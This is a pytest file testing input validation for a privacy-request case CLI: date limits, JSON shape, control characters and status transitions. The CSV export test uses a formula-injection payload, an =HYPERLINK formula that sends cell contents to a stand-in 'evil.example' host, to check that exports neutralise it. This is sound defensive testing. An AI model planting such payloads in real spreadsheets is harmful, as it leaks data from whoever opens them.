"""`privacy-bot cases` on the inputs a new user tries: dates out of range, a shown case fed back as JSON, control
characters, formulas in a CSV cell, and the step through `in_progress` the buttons take. Every refusal is one
line (or one line per bad field), exit code 2, and stores nothing."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from intake import open_db
from tests.test_cli_cases import CASE, MANAGER, cli, env, in_days, new  # noqa: F401 (env is a fixture)


def count(env: dict[str, str]) -> int:
    if not Path(env["PRIVACY_BOT_DB"]).exists():
        return 0
    return int(open_db(env["PRIVACY_BOT_DB"]).execute("SELECT count(*) FROM cases").fetchone()[0])


def refused(result: subprocess.CompletedProcess[str], *fields: str) -> str:
    """Exit 2, no traceback, one stderr line per named field (or one line when none is named)."""
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    if fields:
        assert [line.split(": ")[1] for line in lines] == list(fields), lines
    else:
        assert len(lines) == 1, lines
    return result.stderr


def new_json(env: dict[str, str], data: object) -> subprocess.CompletedProcess[str]:
    return cli(env, "new", "--json", "-", stdin=json.dumps(data, ensure_ascii=False))


class TestDates:
    """Receipt between 2020-01-01 and now (+5 min), due dates at most a year out, --limit from 1."""

    @pytest.mark.parametrize("received", ["0001-01-01", "2019-12-31T23:59", "9999-12-31T23:59-10:00"])
    def test_received_out_of_range(self, env: dict[str, str], received: str) -> None:
        stderr = refused(cli(env, "new", "--type", "general", "--channel", "email", "--name", "高橋花子",
                             "--email", "hanako@example.com", "--description", "問い合わせ", "--received-at", received),
                         "received_at")
        assert ("2020-01-01" in stderr) != ("future" in stderr)
        assert count(env) == 0

    def test_received_on_the_first_day_is_fine(self, env: dict[str, str]) -> None:
        new(env, received_at="2020-01-01T10:00")

    def test_due_more_than_a_year_out(self, env: dict[str, str]) -> None:
        refused(new_json(env, {**CASE, "due_at": in_days(400)}), "due_at")
        refused(new_json(env, {**CASE, "due_at": "9999-12-31"}), "due_at")
        assert count(env) == 0
        new(env, due_at=in_days(300))

    def test_extension_more_than_a_year_out(self, env: dict[str, str]) -> None:
        case_id = new(env)
        stderr = refused(cli(env, "extend", case_id, "--due", in_days(400), "--reason", "r", "--actor", MANAGER), "due")
        assert "1年以内" in stderr
        refused(cli(env, "extend", case_id, "--due", "0001-01-01", "--reason", "r", "--actor", MANAGER), "due")
        shown = json.loads(cli(env, "show", case_id, "--json").stdout)
        assert [h["action"] for h in shown["history"]] == ["created"]
        assert cli(env, "extend", case_id, "--due", in_days(300), "--reason", "r", "--actor", MANAGER).returncode == 0

    def test_export_since_out_of_range(self, env: dict[str, str]) -> None:
        new(env)
        assert "leave it out to export every case" in refused(cli(env, "export", "--format", "csv", "--since",
                                                                  "0001-01-01"))
        assert json.loads(cli(env, "export", "--format", "json", "--since", "2020-01-01").stdout)

    @pytest.mark.parametrize("limit", ["0", "-1", "x", "1.5"])
    def test_limit_must_be_positive(self, env: dict[str, str], limit: str) -> None:
        assert "--limit" in refused(cli(env, "list", f"--limit={limit}"))

    def test_limit(self, env: dict[str, str]) -> None:
        new(env), new(env)
        assert len(json.loads(cli(env, "list", "--limit", "1", "--json").stdout)) == 1


class TestJsonInput:
    """`cases new --json -` takes the shape `cases show --json` writes; what privacy-bot sets is named if given."""

    def test_a_shown_case_names_exactly_its_read_only_fields(self, env: dict[str, str]) -> None:
        shown = json.loads(cli(env, "show", new(env), "--json").stdout)
        refused(new_json(env, shown), "created_at", "created_by", "history", "id", "notes", "policy_version", "status",
                "updated_at")
        stderr = new_json(env, shown).stderr
        assert stderr.count("read-only") == 8
        assert count(env) == 1

    def test_a_shown_case_without_them_is_logged_again(self, env: dict[str, str]) -> None:
        shown = json.loads(cli(env, "show", new(env), "--json").stdout)
        for name in ("id", "status", "history", "notes", "created_by", "created_at", "updated_at", "policy_version"):
            del shown[name]
        result = new_json(env, shown)  # null read-only fields (outcome, identity.verified_at…) are fine
        assert result.returncode == 0, result.stderr
        again = json.loads(cli(env, "show", json.loads(result.stdout)["id"], "--json").stdout)
        assert {key: again[key] for key in ("type", "channel", "description", "requester", "received_at")} == {
            key: shown[key] for key in ("type", "channel", "description", "requester", "received_at")}

    def test_unknown_and_read_only_fields_are_told_apart(self, env: dict[str, str]) -> None:
        data = {**CASE, "colour": "blue", "status": "resolved",
                "requester": {**CASE["requester"], "fax": "03-0000-0000"},
                "identity": {"status": "verified", "method": "account", "verified_by": "U0123MANAGER"}}
        stderr = refused(new_json(env, data), "colour", "status", "requester.fax", "identity.verified_by")
        assert [line.endswith("(unknown field)") for line in stderr.splitlines()] == [True, False, True, False]

    @pytest.mark.parametrize(
        ("stdin", "words"),
        [
            ("[" * 100_000 + "]" * 100_000, "nested too deeply"),
            ('{"a":' * 100_000 + "1" + "}" * 100_000, "nested too deeply"),
            ('["not", "an", "object"]', "one object"),
            ("null", "one object"),
        ],
        ids=["deep array", "deep object", "array", "null"],
    )
    def test_not_one_object(self, env: dict[str, str], stdin: str, words: str) -> None:
        assert words in refused(cli(env, "new", "--json", "-", stdin=stdin))
        assert count(env) == 0

    def test_invalid_utf8(self, env: dict[str, str]) -> None:
        """A byte that is not UTF-8 would have become U+FFFD in the requester's name; it is refused instead."""
        raw = json.dumps(CASE, ensure_ascii=False).encode("utf-8").replace("高橋".encode(), b"\xff\xfe", 1)
        result = subprocess.run([sys.executable, "-m", "privacy_bot", "cases", "new", "--json", "-"], input=raw,
                                capture_output=True, env=env, timeout=60)
        assert result.returncode == 2 and b"Traceback" not in result.stderr
        assert result.stderr.decode().startswith("privacy-bot: stdin is not UTF-8 (byte ")
        assert count(env) == 0

    def test_byte_order_mark_is_fine(self, env: dict[str, str]) -> None:
        raw = json.dumps(CASE, ensure_ascii=False).encode("utf-8-sig")
        result = subprocess.run([sys.executable, "-m", "privacy_bot", "cases", "new", "--json", "-"], input=raw,
                                capture_output=True, env=env, timeout=60)
        assert result.returncode == 0, result.stderr


class TestControlCharacters:
    """Invisible format characters are removed; control characters are refused and named with their field."""

    def test_control_characters_refused(self, env: dict[str, str]) -> None:
        data = {**CASE, "description": "消して\u0000ください", "requester": {**CASE["requester"], "name": "高橋\x1b[2J花子"}}
        stderr = refused(new_json(env, data), "description", "requester.name")
        assert "U+0000" in stderr and "U+001B" in stderr
        assert count(env) == 0

    def test_line_breaks_refused_in_one_line_fields(self, env: dict[str, str]) -> None:
        stderr = refused(new_json(env, {**CASE, "requester": {**CASE["requester"], "name": "高橋\n花子"}}),
                         "requester.name")
        assert "one line" in stderr

    def test_undecodable_argument_refused(self, env: dict[str, str]) -> None:
        result = subprocess.run([sys.executable, "-m", "privacy_bot", "cases", "new", "--type", "general",
                                 "--channel", "email", "--name", b"\xff\xfe".decode("utf-8", "surrogateescape"),
                                 "--email", "hanako@example.com", "--description", "問い合わせ"],
                                capture_output=True, text=True, encoding="utf-8", env=env, timeout=60)
        refused(result, "requester.name")

    def test_invisible_characters_removed_line_breaks_kept(self, env: dict[str, str]) -> None:
        data = {**CASE, "description": "録音を\u200b消して\r\nください。\u202e\tよろしく",
                "requester": {**CASE["requester"], "name": "\ufeff高橋\u200d花子\u2066"}}
        result = new_json(env, data)
        assert result.returncode == 0, result.stderr
        shown = json.loads(cli(env, "show", json.loads(result.stdout)["id"], "--json").stdout)
        assert shown["requester"]["name"] == "高橋花子"
        assert shown["description"] == "録音を消して\nください。\tよろしく"


class TestCsvFormulas:
    """The CSV is opened in Excel: a cell that would be a formula starts with a quote; JSON is as stored."""

    def test_formula_cells_neutralised(self, env: dict[str, str]) -> None:
        link = '=HYPERLINK("https://evil.example/?d="&C2,"詳細")'
        case_id = new(env, description=link, requester={"name": "@SUM(1+1)", "email": "hanako@example.com",
                                                         "phone": "090-1234-5678"})
        new(env, description="-1+2 と +3 の件\n=改行のあとは式ではない")
        raw = subprocess.run([sys.executable, "-m", "privacy_bot", "cases", "export", "--format", "csv"],
                             capture_output=True, env=env, timeout=60, check=True).stdout
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
        assert rows[0]["id"] == case_id
        assert rows[0]["description"] == "'" + link
        assert rows[0]["requester_name"] == "'@SUM(1+1)" and rows[0]["requester_phone"] == "'+819012345678"
        assert rows[1]["description"] == "'-1+2 と +3 の件\n=改行のあとは式ではない"
        for row in rows:
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
        as_json = json.loads(cli(env, "export", "--format", "json").stdout)
        assert as_json[0]["description"] == link and as_json[0]["requester"]["name"] == "@SUM(1+1)"


class TestStepThroughInProgress:
    """resolved, refused and transferred from `acknowledged` step through `in_progress`, as the buttons do."""

    @pytest.mark.parametrize(
        ("status", "extra", "outcome"),
        [
            ("resolved", ("--outcome", "fulfilled", "--identity-override", "登録メールで本人と確認済み"), "fulfilled"),
            ("refused", ("--ground", "requirements_not_met", "--reason", "要件を満たさないため"), None),
            ("transferred", ("--client", "株式会社サンプル"), None),
            ("waiting_requester", ("--waiting-for", "identity_documents", "--reason", "運転免許証の写し"), None),
        ],
    )
    def test_two_audit_rows_one_command(self, env: dict[str, str], status: str, extra: tuple[str, ...],
                                        outcome: str | None) -> None:
        case_id = new(env)
        assert cli(env, "transition", case_id, "acknowledged", "--actor", MANAGER).returncode == 0
        result = cli(env, "transition", case_id, status, "--actor", MANAGER, *extra)
        assert result.returncode == 0, result.stderr
        shown = json.loads(cli(env, "show", case_id, "--json").stdout)
        assert shown["status"] == status
        assert [(h["from_status"], h["to_status"], h["actor"]) for h in shown["history"][1:]] == [
            ("new", "acknowledged", MANAGER), ("acknowledged", "in_progress", MANAGER),
            ("in_progress", status, MANAGER)]
        if outcome:
            assert shown["outcome"] == outcome

    def test_a_refused_ending_leaves_no_step(self, env: dict[str, str]) -> None:
        case_id = new(env)
        cli(env, "transition", case_id, "acknowledged", "--actor", MANAGER)
        refused(cli(env, "transition", case_id, "refused", "--actor", MANAGER), "ground", "reason")
        shown = json.loads(cli(env, "show", case_id, "--json").stdout)
        assert shown["status"] == "acknowledged" and len(shown["history"]) == 2

    def test_waiting_needs_what_it_waits_for_then_back_to_work_clears_it(self, env: dict[str, str]) -> None:
        case_id = new(env)
        cli(env, "transition", case_id, "acknowledged", "--actor", MANAGER)
        assert "identity_documents" in refused(cli(env, "transition", case_id, "waiting_requester", "--actor",
                                                   MANAGER), "waiting_for")
        assert cli(env, "transition", case_id, "waiting_requester", "--waiting-for", "more_details",
                   "--actor", MANAGER).returncode == 0
        shown = cli(env, "show", case_id)
        assert "待機中 waiting  more_details" in shown.stdout and "does not pause" in shown.stdout
        waiting = json.loads(cli(env, "show", case_id, "--json").stdout)
        assert waiting["waiting"]["for"] == "more_details"
        assert cli(env, "transition", case_id, "in_progress", "--actor", MANAGER).returncode == 0
        back = json.loads(cli(env, "show", case_id, "--json").stdout)
        assert back["waiting"] is None and back["due_at"] == waiting["due_at"]
        assert [h["to_status"] for h in back["history"]] == ["new", "acknowledged", "in_progress",
                                                             "waiting_requester", "in_progress"]

    def test_unknown_status(self, env: dict[str, str]) -> None:
        case_id = new(env)
        cli(env, "transition", case_id, "acknowledged", "--actor", MANAGER)
        assert "unknown status 'closed'" in refused(cli(env, "transition", case_id, "closed", "--actor", MANAGER))


class TestOptionsTheStatusDoesNotTake:
    """An option a status has no use for is refused by name, never dropped or half-stored (before, `--client` on
    `acknowledged` landed in the audit details, and `--outcome` on `acknowledged` set the case's outcome)."""

    @pytest.mark.parametrize(
        ("status", "extra", "field"),
        [
            ("acknowledged", ("--client", "株式会社サンプル"), "client"),
            ("acknowledged", ("--outcome", "fulfilled"), "outcome"),
            ("withdrawn", ("--ground", "other_law"), "ground"),
            ("acknowledged", ("--waiting-for", "identity_documents"), "waiting_for"),
        ],
    )
    def test_refused_by_name(self, env: dict[str, str], status: str, extra: tuple[str, ...], field: str) -> None:
        case_id = new(env)
        stderr = refused(cli(env, "transition", case_id, status, "--actor", MANAGER, *extra), field)
        assert "だけ指定します" in stderr
        shown = json.loads(cli(env, "show", case_id, "--json").stdout)
        assert shown["status"] == "new" and shown["outcome"] is None and len(shown["history"]) == 1

    def test_new_is_never_a_target(self, env: dict[str, str]) -> None:
        case_id = new(env)
        cli(env, "transition", case_id, "acknowledged", "--actor", MANAGER)
        assert "new" in refused(cli(env, "transition", case_id, "new", "--actor", MANAGER), "status")
